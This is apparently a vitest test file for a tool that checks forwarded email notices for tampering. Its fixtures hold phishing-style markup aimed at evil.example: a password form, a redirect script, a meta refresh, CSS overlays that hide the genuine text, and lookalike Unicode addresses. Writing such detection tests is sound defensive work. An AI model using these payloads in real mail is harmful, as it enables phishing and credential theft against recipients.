import { describe, expect, test } from 'vitest';
import { answerReceived } from './answer-forged.ts';
import { LURE, PAGE } from './forged-case.ts';
import { frenchCase, type IssuedCase, issuedCase } from './forged-cases.ts';
import {
  type IssuedMail,
  insertFields,
  replaceField,
  swapWords,
  toEntity,
  toMail,
  toMultipart,
  toPart,
  toParts,
} from './issued-mail.ts';
import { LOOSE_MARKUP } from './loose-markup.ts';

const { mail } = issuedCase;

async function judge(written: string, issued: IssuedCase = issuedCase): Promise<string> {
  const { kind } = await answerReceived(issued, { kind: 'file', bytes: Buffer.from(written, 'latin1') });
  return kind;
}

const inHtml = (from: string | RegExp, to: string): string => toMail(swapWords(mail, 'html', from, to));
const behindBody = (markup: string): string => inHtml(/<body[^>]*>/, `$&${markup}`);

/** The issued alternative with a page beside it. */
function withPage(markup: string, place: 'before' | 'after' = 'after'): string {
  const own = toMultipart('alternative', mail.boundary, toPart(mail.text), toPart(mail.html));
  const page = toEntity(['Content-Type: text/html; charset=utf-8'], markup);
  const { fields } = replaceField(mail, 'Content-Type', 'Content-Type: multipart/mixed; boundary="=_other"');
  return toEntity(fields, toParts('=_other', ...(place === 'before' ? [page, own] : [own, page])));
}

describe('what browsers pass over, and simpler readers of HTML show', () => {
  test.each(LOOSE_MARKUP.map((one) => [one.name, one] as const))('%s', async (_, one) => {
    expect(await judge(one.make(mail))).toBe('ambiguous');
  });

  test('not HTML that is only written in another way', async () => {
    expect(await judge(inHtml(/<br>/g, '<br />'))).toBe('genuine');
    expect(await judge(inHtml(/<p style/g, '<P STYLE'))).toBe('genuine');
  });
});

describe('a page beside the notice, which programs write into the same page', () => {
  test.each([
    ['a form', PAGE],
    ['a form without words', '<form action="https://evil.example/"><input name="password"></form>'],
    ['a frame', '<iframe src="https://evil.example/"></iframe>'],
    ['a script', '<script>location = "https://evil.example/"</script>'],
    ['another address of the page', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
    ['a picture', '<img src="https://evil.example/words.png" alt="">'],
    ['a ground with words', '<p style="background:url(https://evil.example/words.png);height:900px"></p>'],
    ['a sheet that hides ours', '<style>div { display: none }</style><p>Scanned.</p>'],
    ['a sheet that writes', `<style>body::before { content: "${LURE}" }</style>`],
    ['a ground over ours', '<div style="position:fixed;top:0;width:100%;height:100%;background:#fff">Scanned.</div>'],
    ['an open element that hides', '<p>Scanned.</p><div style="display:none"><div>'],
  ])('%s', async (_, markup) => {
    expect(await judge(withPage(markup))).toBe('changed');
    expect(await judge(withPage(markup, 'before'))).toBe('changed');
  });

  test('an open comment', async () => {
    expect(await judge(withPage('<p>Scanned.</p><!--', 'before'))).toBe('ambiguous');
  });

  test('but a footer is shown as added', async () => {
    expect(await judge(withPage('<p style="color:#555">Scanned by the gateway.</p>'))).toBe('added');
  });
});

describe('words laid over ours', () => {
  test.each([
    [
      'a sheet',
      `<style>.x { position: fixed; top: 0; height: 100%; background: #fff }</style><p class="x">${LURE}</p>`,
    ],
    ['a shadow', `<style>.x { box-shadow: 0 0 0 9999px #fff }</style><p class="x">${LURE}</p>`],
    ['an outline', `<p style="outline:9999px solid #fff">${LURE}</p>`],
    ['a negative margin', `<p style="margin-bottom:-900px">${LURE}</p>`],
  ])('%s', async (_, markup) => {
    expect(await judge(behindBody(markup))).toBe('changed');
  });
});

test.each([
  ['line ends', `<p>${LURE}</p>${'<br>'.repeat(300)}`],
  ['a high box', `<p style="height:9000px">${LURE}</p>`],
])('the answer says that words stand before ours which %s push off the screen', async (_, markup) => {
  const answer = await answerReceived(issuedCase, { kind: 'file', bytes: Buffer.from(behindBody(markup), 'latin1') });
  const before = { place: 'html', where: 'before', lines: [LURE], lineCount: 1 };
  expect(answer).toMatchObject({ kind: 'added', compared: { additions: [before] } });
});

test.each(['hidden', 'd-none', 'invisible'])(
  'a wrapper of the class %s, which a style of others may hide',
  async (name) => {
    const wrapped = inHtml(/<body[^>]*>/, `$&<div class="${name}">`).replace('</body>', '</div></body>');
    expect(await judge(wrapped)).toBe('rewritten');
  },
);

test('a wrapper of another class hides nothing', async () => {
  const wrapped = inHtml(/<body[^>]*>/, '$&<div class="WordSection1">').replace('</body>', '</div></body>');
  expect(await judge(wrapped)).toBe('genuine');
});

describe('names that say where to write, in other letters', () => {
  test.each(['pay＠evil.example', 'pay﹫evil﹒example', 'evil。example', 'Call ＋１２０２５５５０１４２'])(
    '%s',
    async (name) => {
      const to = `To: =?utf-8?B?${Buffer.from(name).toString('base64')}?= <security@northwind.example>`;
      expect(await judge(toMail(replaceField(mail, 'To', to)))).toBe('changed');
    },
  );
});

describe('fields', () => {
  test.each([`X-Sent: ${LURE}`, 'X-Uniform-Type-Identifier: com.apple.mail-note'])('shown: %s', async (field) => {
    expect(await judge(toMail(insertFields(mail, 'last', field)))).toBe('changed');
  });

  test.each(['Send your password <reply.northwind.example>', '=?utf-8?Q?Send_your_password?= <a.northwind.example>'])(
    'the words of a list are shown: %s',
    async (value) => {
      const bytes = Buffer.from(toMail(insertFields(mail, 'last', `List-Id: ${value}`)), 'latin1');
      const answer = await answerReceived(issuedCase, { kind: 'file', bytes });
      expect(answer).toMatchObject({ kind: 'rewritten' });
      const notes = 'compared' in answer ? answer.compared.notes : [];
      expect(notes).toContainEqual({ kind: 'unknown-field', field: `list-id: ${value}` });
    },
  );

  test('of a list without words only that it is one', async () => {
    const bytes = Buffer.from(toMail(insertFields(mail, 'last', 'List-Id: <all.northwind.example>')), 'latin1');
    const answer = await answerReceived(issuedCase, { kind: 'file', bytes });
    expect('compared' in answer ? answer.compared.notes : []).toEqual([{ kind: 'through-list' }]);
  });

  test('a long first field does not make a mail one that was saved as text', async () => {
    const padded = (more: IssuedMail): string => toMail(insertFields(more, 'first', `X-Pad: ${'a'.repeat(70_000)}`));
    expect(await judge(padded(mail))).toBe('genuine');
    const twice = insertFields(mail, 'last', 'Content-Type: text/html');
    expect(await judge(padded(twice))).toBe(await judge(toMail(twice)));
  });

  test('a day of delivery as a relay writes it is none of the notice', async () => {
    const field = 'Delivery-date: Thu, 1 Nov 2001 09:00:04 +0000';
    expect(await judge(toMail(insertFields(mail, 'first', field)))).toBe('genuine');
  });
});

describe('pasted words, broken with a hyphen', () => {
  const paste = async (from: string, to: string): Promise<string> => {
    const text = mail.text.words.replace(from, to);
    expect(text).not.toBe(mail.text.words);
    return (await answerReceived(issuedCase, { kind: 'pasted', text })).kind;
  };

  test('an address or a number without its hyphen is another one', async () => {
    expect(await paste('harbor.example', 'har-\nbor.example')).toBe('changed');
    expect(await paste('540', '5-\n40')).toBe('changed');
  });

  test('a word is the same', async () => {
    expect(await paste('intruder', 'in-\ntruder')).toBe('words-alone');
  });

  test('so is a word with soft hyphens, and an address or a number is not', async () => {
    expect(await paste('intruder', 'in\u00adtru\u00adder')).toBe('words-alone');
    expect(await paste('intruder', 'in\u00ad\ntruder')).toBe('words-alone');
    expect(await paste('harbor.example', 'har\u00adbor.example')).toBe('changed');
    expect(await paste('540', '5\u00ad40')).toBe('changed');
    expect(await paste('intruder', 'in\u00adtrude')).toBe('changed');
  });
});

test('a bullet that Word wrote with no-break spaces is the mark of a list', async () => {
  const text = mail.text.words.replace(/^ {2}- /gm, '\u00a0\u00a0•\u00a0\u00a0');
  expect(text).not.toBe(mail.text.words);
  expect((await answerReceived(issuedCase, { kind: 'pasted', text })).kind).toBe('words-alone');
});

test('a French figure in the subject is as issued, with the no-break space and as it was sent before', async () => {
  const subject = 'Des e-mails (1\u00a0234 messages)';
  const notice = { ...frenchCase.notice, subject };
  const french = { ...frenchCase, notice };
  const field = (words: string) => `Subject: =?utf-8?B?${Buffer.from(words).toString('base64')}?=`;
  const send = (words: string) => judge(toMail(replaceField(frenchCase.mail, 'Subject', field(words))), french);
  expect(await send(subject)).toBe('genuine');
  expect(await send(subject.replace('\u00a0', ' '))).toBe('genuine');
  expect(await send(subject.replace('\u00a0', ''))).toBe('changed');
});
